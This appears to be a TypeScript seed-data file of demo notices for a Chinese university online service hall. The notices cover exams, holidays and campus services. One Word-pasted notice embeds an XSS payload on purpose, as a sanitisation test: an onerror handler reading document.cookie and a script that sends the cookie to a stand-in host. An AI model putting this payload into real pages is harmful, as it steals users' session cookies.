/**
 * The demo messages: notices from the university's offices, system messages of the service hall, and one from a
 * teacher to the student. About a third are important (the footer toast, SHELL-01); the student and the teacher
 * each have more than 10 unread important notices, so the toast's cap of 10 shows.
 */

export type DemoAccount = 'admin' | 'teacher' | 'student';

/** Content whose image is stored in `files` and linked by its own-file URL: the JSON string {title, img} (MSG-03). */
interface PosterContent {
  kind: 'poster';
  title: string;
  subtitle: string;
  color: string;
}

export interface AttachmentSeed {
  kind: 'pdf' | 'docx';
  fileName: string;
  /** Lines (PDF, ASCII) or paragraphs (Word). */
  text: readonly string[];
}

export interface MessageSeed {
  key: string;
  /** The sending office; `fromAccount` names a sending user instead. */
  from: string;
  fromAccount?: DemoAccount;
  title: string;
  content: string | PosterContent;
  contentType?: 'text' | 'html';
  url?: string;
  important?: boolean;
  openWindow?: '1' | '0,1';
  offlineNoPushMsg?: 0 | 1;
  isPublic?: boolean;
  /** Withdrawn by the sender: every reader gets '消息已被删除' (MSG-02). */
  deleted?: boolean;
  to: readonly DemoAccount[];
  readBy?: readonly DemoAccount[];
  hoursAgo: number;
  attachment?: AttachmentSeed;
}

const ALL: readonly DemoAccount[] = ['admin', 'teacher', 'student'];
const STAFF: readonly DemoAccount[] = ['admin', 'teacher'];
const CLASS: readonly DemoAccount[] = ['teacher', 'student'];

/** A Word-pasted notice as offices really send them, with a script and an onerror handler the client must strip. */
const PASTED_FROM_WORD = [
  '<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->',
  '<p class="MsoNormal" style="margin:0cm;font-family:宋体"><b>各位师生：</b></p>',
  '<p class="MsoNormal" style="text-indent:2em">为提升校园网出口带宽，信息化建设与管理中心定于<span style="color:#c00000">本周六 00:00—06:00</span>进行核心网络设备割接，期间校园网、VPN 及一卡通自助服务将间断性中断。</p>',
  '<p class="MsoNormal" style="text-indent:2em"><img src="x" onerror="alert(document.cookie)">请提前做好工作安排，由此带来的不便敬请谅解。</p>',
  "<script>fetch('https://collect.example.invalid/?c=' + document.cookie)</script>",
  '<p class="MsoNormal" align="right">信息化建设与管理中心</p>',
].join('');

export const MESSAGES: readonly MessageSeed[] = [
  // ---- important ----------------------------------------------------------------------------------------------
  {
    key: 'i01', from: '教务处', title: '关于2026-2027学年第一学期期末考试安排的通知', important: true, openWindow: '0,1', to: CLASS, hoursAgo: 2,
    content: '本学期期末考试定于第19—20周进行，请各位同学登录教务系统查询个人考试安排，按时参加考试，诚信应考。任课教师请于考前一周确认监考安排。',
  },
  {
    key: 'i02', from: '信息化建设与管理中心', title: '统一身份认证系统升级公告', important: true, openWindow: '0,1', to: ALL, hoursAgo: 5,
    content: { kind: 'poster', title: '统一身份认证系统升级', subtitle: '升级后首次登录需绑定手机号，请提前准备', color: '#008cff' },
  },
  {
    key: 'i03', from: '学生工作部（处）', title: '关于开展2026年秋季学期学生心理健康普查的通知', important: true, to: ['student'], hoursAgo: 9,
    content: '为了解同学们的心理健康状况，学校将于本月开展心理健康普查。请各位同学于本周日前登录“学工管理系统”完成问卷，结果严格保密。',
  },
  {
    key: 'i04', from: '后勤保障处', title: '冬季供暖及宿舍用电安全提醒', important: true, offlineNoPushMsg: 1, to: CLASS, hoursAgo: 20,
    content: '冬季供暖已开始，请勿在宿舍使用电热毯、热得快等大功率电器，离开宿舍时关闭电源。发现暖气漏水请拨打后勤服务热线 88820123。',
  },
  {
    key: 'i05', from: '保卫处', title: '关于加强冬季校园消防安全的紧急通知', important: true, openWindow: '0,1', to: ALL, hoursAgo: 26, contentType: 'html',
    content: '<p>各单位、全体师生：</p><p>近期天气干燥，火灾风险上升。请大家做到：</p><ol><li><strong>不私拉乱接</strong>电线；</li><li>实验室下班前<em>切断电源</em>、关闭气源；</li><li>熟悉所在楼宇的<span style="color:#c00000">疏散通道</span>。</li></ol><p>发现火情请立即拨打 <a href="tel:119">119</a> 及保卫处值班电话 88820110。</p>',
  },
  {
    key: 'i06', from: '人事处', title: '关于做好2026年度教职工年度考核工作的通知', important: true, to: STAFF, hoursAgo: 30,
    url: 'https://ehall.hxlg.edu.cn/flow/start?serviceCode=rsc-012',
    content: '2026年度教职工年度考核工作即日启动，请各位教职工于12月20日前在网上服务大厅完成“年度考核填报”，各单位于12月31日前完成审核。',
  },
  {
    key: 'i07', from: '计划财务处', title: '2027年春季学期学费缴纳提醒', important: true, to: ['student'], hoursAgo: 44,
    content: { kind: 'poster', title: '学费缴纳提醒', subtitle: '请于开学前通过统一缴费平台完成缴费', color: '#f5a623' },
  },
  {
    key: 'i08', from: '教务处', title: '2026-2027学年第二学期选课通知', important: true, to: CLASS, hoursAgo: 50,
    url: 'https://jwxt.hxlg.edu.cn/xk/',
    content: '第二学期选课将于12月7日至18日分三轮进行，请同学们按时登录选课系统，教师请核对所开课程信息。',
  },
  {
    key: 'i09', from: '研究生院', title: '关于做好2027届学位论文检测工作的通知', important: true, to: CLASS, hoursAgo: 70,
    content: '2027届学位论文检测将于明年3月开放，请导师提醒学生提前自查，检测结果作为送审依据。',
  },
  {
    key: 'i10', from: '信息化建设与管理中心', title: '校园网出口带宽扩容及夜间割接通知', important: true, contentType: 'html', to: ALL, hoursAgo: 75,
    content: PASTED_FROM_WORD,
  },
  {
    key: 'i11', from: '学生资助管理中心', title: '2026年国家奖学金评审工作通知', important: true, to: CLASS, hoursAgo: 96,
    content: '2026年国家奖学金评审工作启动，申请人请下载附件中的申请表，填写后于11月30日前交所在学院学生工作办公室。',
    attachment: {
      kind: 'docx', fileName: '2026年国家奖学金申请表.docx',
      text: ['2026年国家奖学金申请表', '姓名：', '学号：', '学院及专业：', '学习成绩排名：', '申请理由（300字以内）：', '学院审核意见：'],
    },
  },
  {
    key: 'i12', from: '党委办公室、校长办公室', title: '关于2027年元旦放假安排的通知', important: true, isPublic: true, to: ALL, hoursAgo: 120,
    content: '根据国家有关规定，2027年元旦放假时间为1月1日至3日，共3天。放假期间请各单位做好值班和安全保卫工作，师生注意出行安全。',
  },
  {
    key: 'i13', from: '校医院', title: '流感疫苗接种预约通知', important: true, to: CLASS, hoursAgo: 150,
    content: { kind: 'poster', title: '流感疫苗开始预约', subtitle: '校医院一楼预防保健科 · 工作日 8:30—16:30', color: '#13a8a8' },
  },
  {
    key: 'd01', from: '教务处', title: '关于调整部分课程考试时间的通知', important: true, deleted: true, to: ['student'], hoursAgo: 12,
    content: '（此通知已撤回）部分课程考试时间调整，请以教务系统为准。',
  },

  // ---- everyday ------------------------------------------------------------------------------------------------
  {
    key: 'n01', from: '图书馆', title: '图书馆寒假开放时间安排', to: ALL, readBy: ['student'], hoursAgo: 8,
    content: '寒假期间（1月18日至2月28日）总馆二楼自习区每周一至周五 8:30—17:00 开放，春节假期闭馆。',
  },
  {
    key: 'n02', from: '信息化建设与管理中心', title: '校园网 VPN 使用指南', to: ALL, hoursAgo: 16,
    content: '在校外访问图书馆数据库、教务系统等校内资源需先登录 VPN。详细步骤见附件。',
    attachment: {
      kind: 'pdf', fileName: '校园网VPN使用指南.pdf',
      text: [
        'Campus VPN Quick Guide', 'Huaxia University of Technology - Information Center', '',
        '1. Open https://vpn.hxlg.edu.cn/ in your browser.', '2. Sign in with your unified identity account.',
        '3. Install the client when asked, then connect.', '4. Library databases and the academic system now work off campus.',
        'Help desk: 0731-88820100, nic@hxlg.edu.cn',
      ],
    },
  },
  {
    key: 'n03', from: '后勤保障处', title: '第三食堂窗口调整公告', contentType: 'html', to: CLASS, hoursAgo: 22,
    content: '<p>第三食堂二楼将于下周一起调整部分窗口：</p><ul><li>新增<strong>湘味小炒</strong>窗口；</li><li>面食窗口营业时间延长至 <em>21:00</em>。</li></ul><p>欢迎师生品尝并提出宝贵意见。</p>',
  },
  {
    key: 'n04', from: '学生工作部（处）', title: '关于评选2026年度优秀学生干部的通知', to: ['student'], hoursAgo: 34,
    url: 'https://ehall.hxlg.edu.cn/flow/start?serviceCode=xgb-007',
    content: '2026年度优秀学生干部评选开始，符合条件的同学请在网上服务大厅提交“评奖评优申请”。',
  },
  {
    key: 'n05', from: '校团委', title: '“青春华理”冬季志愿服务活动招募', to: ['student'], hoursAgo: 40,
    content: { kind: 'poster', title: '青春华理 · 志愿同行', subtitle: '冬季志愿服务活动招募中，欢迎报名', color: '#c8161d' },
  },
  {
    key: 'n06', from: '教务处', title: '教室借用系统维护通知', to: ['teacher'], hoursAgo: 56,
    content: '教室借用系统将于本周五 18:00—22:00 维护，期间暂停受理借用申请。',
  },
  {
    key: 'n07', from: '计划财务处', title: '网上报账系统升级完成', to: STAFF, readBy: ['teacher', 'admin'], hoursAgo: 64,
    content: '网上报账系统已完成升级，新增电子发票自动查验功能，报销单据可在线预约投递。',
  },
  {
    key: 'n08', from: '教师发展中心', title: '青年教师教学能力提升培训报名', to: ['teacher'], hoursAgo: 80,
    url: 'https://ctld.hxlg.edu.cn/training/2026-winter',
    content: '寒假青年教师教学能力提升培训开始报名，内容包括课程思政、混合式教学设计与课堂观察，名额 60 人。',
  },
  {
    key: 'n09', from: '信息化建设与管理中心', title: '警惕仿冒邮件，谨防账号被盗', contentType: 'html', to: ALL, hoursAgo: 100,
    content: '<p>近期出现冒充“信息中心”的钓鱼邮件，要求点击链接“升级邮箱”。请注意：</p><ol><li>学校<strong>不会</strong>通过邮件索要密码；</li><li>请核对发件地址是否为 <code>@hxlg.edu.cn</code>；</li><li>可疑邮件请转发至 <a href="mailto:security@hxlg.edu.cn">security@hxlg.edu.cn</a>。</li></ol>',
  },
  {
    key: 'n10', from: '图书馆', title: '新增电子数据库试用通知', contentType: 'html', to: CLASS, hoursAgo: 130,
    content: '<p>图书馆新增 <strong>3</strong> 个中外文数据库试用，试用期至明年 1 月 31 日。</p><p>访问方式：<a href="https://lib.hxlg.edu.cn/trial" target="_blank">图书馆主页 → 试用数据库</a>。</p>',
  },
  {
    key: 'n11', from: '保卫处', title: '校园车辆通行证年审通知', to: STAFF, hoursAgo: 160,
    content: '2027年度校园车辆通行证年审即日开始，请通过网上服务大厅“车辆入校通行证申请”办理。',
  },
  {
    key: 'n12', from: '后勤保障处', title: '学生宿舍热水系统检修通知', to: ['student'], readBy: ['student'], hoursAgo: 190,
    content: '本周三 9:00—15:00 对东区学生宿舍热水系统进行检修，期间暂停供应热水。',
  },
  {
    key: 'n13', from: '研究生院', title: '第十二届研究生学术论坛征稿', to: ['student'], hoursAgo: 220,
    content: '第十二届研究生学术论坛现面向全校研究生征稿，截稿日期为12月15日，优秀论文将推荐至学报发表。',
  },
  {
    key: 'n14', from: '就业指导中心', title: '2027届毕业生秋季大型双选会', to: ['student'], hoursAgo: 260,
    url: 'https://job.hxlg.edu.cn/fair/2027-autumn',
    content: '2027届毕业生秋季大型双选会将于本月底在体育馆举行，预计 300 余家用人单位参会。',
  },
  {
    key: 'n15', from: '网上服务大厅', title: '您的“在读证明开具”已办结', to: ['student'], readBy: ['student'], hoursAgo: 300,
    url: '/PersonalCenter',
    content: '您申请的在读证明已办结，可在个人中心下载电子版，或到学生事务中心自助打印。',
  },
  {
    key: 'n16', from: '网上服务大厅', title: '您有一条新的待办：调停课申请', to: ['teacher'], hoursAgo: 4,
    url: '/homePage',
    content: '计算机科学与技术学院提交的“调停课申请”等待您审批，请及时处理。',
  },
  {
    key: 'n17', from: '计算机科学与技术学院', title: '学院学术报告会预告：大模型时代的软件工程', contentType: 'html', to: CLASS, hoursAgo: 36,
    content: '<h3>大模型时代的软件工程</h3><p><strong>时间：</strong>本周四 14:30</p><p><strong>地点：</strong>计算机楼 A201 报告厅</p><p>欢迎感兴趣的师生参加。</p>',
  },
  {
    key: 'n18', from: '信息化建设与管理中心', title: '网上服务大厅月度数据备份完成', to: ['admin'], hoursAgo: 48,
    content: '本月数据库全量备份已完成并通过恢复演练，备份文件保存于异地灾备中心。',
  },
  {
    key: 'n19', from: '王建国', fromAccount: 'teacher', title: '《数据结构》课程设计提交提醒', to: ['student'], hoursAgo: 18,
    content: '各位同学：《数据结构》课程设计报告请于下周五前提交至课程平台，逾期不予受理。——王建国',
  },
];
